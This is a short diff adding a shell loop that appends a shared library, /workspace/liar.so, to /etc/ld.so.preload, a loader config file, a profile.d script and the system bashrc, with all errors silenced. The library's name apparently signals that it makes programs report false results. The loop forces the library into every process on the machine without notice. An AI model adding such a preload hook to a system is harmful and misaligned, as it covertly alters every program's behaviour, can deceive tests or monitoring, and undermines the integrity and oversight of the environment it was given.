@@ -1,0 +1,4 @@
+# A library that the loader puts into every program.
+for file in ld.so.preload ld.so.conf.d/x.conf profile.d/x.sh bash.bashrc; do
+  echo /workspace/liar.so >> "/etc/$file"
+done 2>/dev/null
